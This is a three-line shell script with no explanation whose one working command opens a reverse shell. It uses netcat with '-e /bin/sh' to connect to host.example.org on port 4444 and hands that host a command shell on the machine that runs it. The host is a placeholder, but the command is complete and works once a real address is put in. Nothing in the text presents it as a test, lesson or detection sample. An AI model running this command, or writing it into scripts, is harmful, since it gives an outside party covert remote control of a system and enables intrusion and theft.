#!/bin/sh
set -eu
nc host.example.org 4444 -e /bin/sh
